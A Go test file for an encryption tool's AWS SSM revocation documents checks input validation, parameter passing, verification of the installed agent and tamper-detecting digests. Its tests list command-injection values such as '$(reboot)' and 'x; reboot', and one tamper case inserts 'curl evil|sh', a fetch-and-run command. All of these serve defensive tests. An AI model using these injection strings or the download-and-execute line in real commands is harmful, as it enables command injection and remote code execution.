package document

import (
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/storecrypt/storecrypt/internal/contract"
	"github.com/storecrypt/storecrypt/internal/fakeaws"
	"github.com/storecrypt/storecrypt/internal/golden"
)

const shredTarget = "i-0123456789abcdef0"

// given are values a responder's command carries for d.
func given(d contract.RevocationDocument) map[string][]string {
	g := map[string][]string{contract.RevokeReasonParameter: {"incident 7"}, contract.RevokeByParameter: {"arn:aws:iam::111122223333:user/responder"}}
	if d.Mark == contract.Shredded {
		g[contract.ShredConfirmParameter] = []string{shredTarget}
	}
	return g
}

func revocationJSON(t *testing.T, d contract.RevocationDocument, each []Agent) string {
	t.Helper()
	b, err := json.Marshal(RevocationContent(d, defaults(), each))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestRevocationPatternsAgreeWithTheAgent: a value a revocation document's allowedPattern
// accepts is one the agent accepts (contract.ValidateRevocation, which it runs on
// --reason and --by; --confirm it compares with the instance's id), and hostile or blank
// values fail both.
func TestRevocationPatternsAgreeWithTheAgent(t *testing.T) {
	hostile := []string{"", " ", "  x", "x; reboot", "$(reboot)", "`reboot`", "a\nb", "'", `"`, "a|b", "a&b", "${IFS}", "a>b", "a\tb", strings.Repeat("a", 513)}
	good := map[string][]string{
		contract.RevokeReasonParameter: {"incident 7", "INC-2026-0042: key compromise (see #sec)", "x", strings.Repeat("a", 256)},
		contract.RevokeByParameter:     {"arn:aws:iam::111122223333:user/responder", "arn:aws:sts::111122223333:assumed-role/Responder/jane@example.com", "uid:0"},
		contract.ShredConfirmParameter: {shredTarget, "i-12345678"},
	}
	agent := map[string]func(string) error{
		contract.RevokeReasonParameter: func(v string) error { return contract.ValidateRevocation(v, "uid:0") },
		contract.RevokeByParameter:     func(v string) error { return contract.ValidateRevocation("incident 7", v) },
		contract.ShredConfirmParameter: func(v string) error {
			if v != shredTarget && v != "i-12345678" {
				return errors.New("not the instance's id")
			}
			return nil
		},
	}
	for _, d := range contract.RevocationDocuments {
		for _, p := range RevocationParameters(d) {
			re := regexp.MustCompile(p.Pattern)
			for _, v := range good[p.Name] {
				if !re.MatchString(v) {
					t.Errorf("%s %s: got the pattern rejecting the good value %q, want it accepted", d.Default, p.Name, v)
				}
				if err := agent[p.Name](v); err != nil {
					t.Errorf("%s %s=%q: got the agent refusing what the pattern accepts (%v), want it accepted", d.Default, p.Name, v, err)
				}
			}
			for _, v := range hostile {
				if re.MatchString(v) {
					t.Errorf("%s %s: got the pattern accepting the hostile value %q, want it refused", d.Default, p.Name, v)
				}
				if p.Flag != contract.FlagConfirm && agent[p.Name](v) == nil {
					t.Errorf("%s --%s=%q: got the agent accepting it, want it refused as the pattern does", d.Default, p.Flag, v)
				}
			}
		}
	}
}

// TestRevocationParametersBySSM runs each document through the SSM Agent model: the
// responder's values reach the step only as SSM_<name>, never as text; the agent's
// parameters are every one of its flags the document passes; a command without a
// parameter, or with a value outside its pattern, is refused on the instance.
func TestRevocationParametersBySSM(t *testing.T) {
	for _, d := range contract.RevocationDocuments {
		t.Run(d.Default, func(t *testing.T) {
			content := revocationJSON(t, d, agents.Each)
			plan, err := fakeaws.PlanCommand(content, given(d), "Linux")
			if err != nil {
				t.Fatal(err)
			}
			if len(plan.Steps) != 1 || plan.Steps[0].Action != "aws:runShellScript" || plan.Steps[0].Name != d.Command {
				t.Fatalf("got steps %+v, want one aws:runShellScript named %s (nothing downloaded)", plan.Steps, d.Command)
			}
			if n := strings.Count(content, "{{"); n != 0 {
				t.Errorf("got %d {{ in the document, want none: every value is an SSM_<name> variable", n)
			}
			for name, v := range given(d) {
				if want := "SSM_" + name + "=" + v[0]; !strings.Contains(strings.Join(plan.Env, "\n"), want) {
					t.Errorf("got env %q, want %s", plan.Env, want)
				}
			}
			for name := range given(d) {
				for _, bad := range []string{"$(reboot)", "a\nb"} {
					g := given(d)
					g[name] = []string{bad}
					var refused *fakeaws.ParameterError
					if _, err := fakeaws.PlanCommand(content, g, "Linux"); !errors.As(err, &refused) {
						t.Errorf("%s=%q: got %v, want the SSM Agent's refusal", name, bad, err)
					}
				}
				g := given(d)
				delete(g, name)
				if _, err := fakeaws.PlanCommand(content, g, "Linux"); err == nil {
					t.Errorf("without %s: got a plan, want a refusal", name)
				}
			}
			windows, err := fakeaws.PlanCommand(content, given(d), "Windows")
			if err != nil || windows.Steps[0].Skipped == "" {
				t.Errorf("on Windows: got %+v, %v, want the step skipped", windows.Steps, err)
			}
		})
	}
}

// TestRevocationRunsTheInstalledAgent runs each document's step, as the SSM Agent model
// renders it, with sh: it runs the agent at contract.AgentPath only when that is the
// document's build, from a private copy gone afterwards, with the responder's values as
// flags; an agent of another build, a missing one, or an SSM Agent that sets no SSM_<name>
// stops the step before anything runs.
func TestRevocationRunsTheInstalledAgent(t *testing.T) {
	const trusted = "#!/bin/sh\nprintf 'ran'; for a in \"$@\"; do printf ' [%s]' \"$a\"; done; echo\nexit 7\n"
	args := map[string]string{
		contract.DocumentRevoke: "ran [revoke] [--reason=incident 7] [--by=arn:aws:iam::111122223333:user/responder]\n",
		contract.DocumentResume: "ran [resume] [--reason=incident 7] [--by=arn:aws:iam::111122223333:user/responder] [--mount-point=/mnt/instance-store]\n",
		contract.DocumentShred:  "ran [shred] [--reason=incident 7] [--by=arn:aws:iam::111122223333:user/responder] [--confirm=" + shredTarget + "]\n",
	}
	arch := hostArch(t)
	for _, d := range contract.RevocationDocuments {
		for _, tc := range []struct {
			name      string
			installed string // "" for none
			oldSSM    bool
			code      int
			stdout    string
			stderr    string
		}{
			{"the document's build", trusted, false, 7, args[d.Default], ""},
			{"another build", "#!/bin/sh\necho ran the other build\n", false, 2, "", "is not the agent this document trusts"},
			{"no agent", "", false, 2, "", "the apply document installs it"},
			{"an SSM Agent without SSM_<name>", trusted, true, 2, "", "SSM Agent " + envVarAgent},
		} {
			t.Run(d.Default+"/"+tc.name, func(t *testing.T) {
				dir := t.TempDir()
				installed, private := filepath.Join(dir, "sbin", "storecrypt-agent"), filepath.Join(dir, "run")
				if tc.installed != "" {
					writeFile(t, installed, tc.installed)
				}
				if err := os.MkdirAll(private, 0o755); err != nil {
					t.Fatal(err)
				}
				each := []Agent{{Arch: arch, SHA256: hexSum([]byte(trusted)), GzSHA256: strings.Repeat("c", 64)}}
				ssmAgent := fakeaws.SSMAgent{Platform: "Linux"}
				if tc.oldSSM {
					ssmAgent.Version = "3.3.1142.0"
				}
				plan, err := ssmAgent.Plan(revocationJSON(t, d, each), given(d))
				if err != nil {
					t.Fatal(err)
				}
				var script strings.Builder
				for _, line := range plan.Steps[0].Inputs["runCommand"].([]any) {
					script.WriteString(line.(string) + "\n")
				}
				text := strings.ReplaceAll(script.String(), contract.AgentPath, installed)
				text = strings.ReplaceAll(text, "/run/storecrypt-agent.", private+"/storecrypt-agent.")
				cmd := exec.Command("sh", "-c", text)
				cmd.Env = append(os.Environ(), plan.Env...)
				var stdout, stderr strings.Builder
				cmd.Stdout, cmd.Stderr = &stdout, &stderr
				err = cmd.Run()
				var exit *exec.ExitError
				if !errors.As(err, &exit) || exit.ExitCode() != tc.code {
					t.Fatalf("got %v, want exit %d\n%s", err, tc.code, stderr.String())
				}
				if stdout.String() != tc.stdout {
					t.Errorf("got stdout %q, want %q", stdout.String(), tc.stdout)
				}
				if !strings.Contains(stderr.String(), tc.stderr) {
					t.Errorf("got stderr %q, want it to say %q", stderr.String(), tc.stderr)
				}
				if left, _ := filepath.Glob(filepath.Join(private, "*")); len(left) != 0 {
					t.Errorf("got %v left behind, want the private copy removed", left)
				}
			})
		}
	}
}

// TestRevocationDigest: each document's digest covers what runs, so the result
// function's trust check (Verify, with no key or secret default) tells a tampered
// version; no two of the documents, nor the apply document, share a digest.
func TestRevocationDigest(t *testing.T) {
	apply, err := Digest(Content(defaults(), agents))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]string{apply: contract.DocumentName}
	for _, d := range contract.RevocationDocuments {
		content := revocationJSON(t, d, agents.Each)
		want, err := Digest(RevocationContent(d, defaults(), agents.Each))
		if err != nil {
			t.Fatal(err)
		}
		if other, ok := seen[want]; ok {
			t.Errorf("%s: got the digest of %s, want its own", d.Default, other)
		}
		seen[want] = d.Default
		if err := Verify(content, want, "", ""); err != nil {
			t.Errorf("%s: got %v for the deployed content, want it trusted", d.Default, err)
		}
		for name, edit := range map[string]func(string) string{
			"another script":   func(c string) string { return strings.Replace(c, "set -eu", "set -eu; curl evil|sh", 1) },
			"another digest":   func(c string) string { return strings.ReplaceAll(c, agents.Each[1].SHA256, strings.Repeat("e", 64)) },
			"a looser pattern": func(c string) string { return strings.Replace(c, `{0,255}$`, `{0,255}`, 1) },
			"a default reason": func(c string) string {
				return strings.Replace(c, `"type":"String"`, `"default":"x","type":"String"`, 1)
			},
			"another agent":   func(c string) string { return strings.ReplaceAll(c, contract.AgentPath, "/tmp/agent") },
			"another command": func(c string) string { return strings.Replace(c, `\"$bin\" `+d.Command, `\"$bin\" status`, 1) },
			"a default key":   func(c string) string { return c },
			"not JSON":        func(string) string { return "{" },
		} {
			key := ""
			if name == "a default key" {
				key = "arn:aws:kms:us-east-1:444455556666:key/x"
			}
			if err := Verify(edit(content), want, key, ""); !errors.Is(err, ErrUntrusted) {
				t.Errorf("%s, %s: got %v, want ErrUntrusted", d.Default, name, err)
			}
		}
	}
}

func TestRevocationGolden(t *testing.T) {
	for _, d := range contract.RevocationDocuments {
		got, err := json.MarshalIndent(RevocationContent(d, defaults(), agents.Each), "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		golden.Check(t, d.Suffix+".json", append(got, '\n'))
	}
}
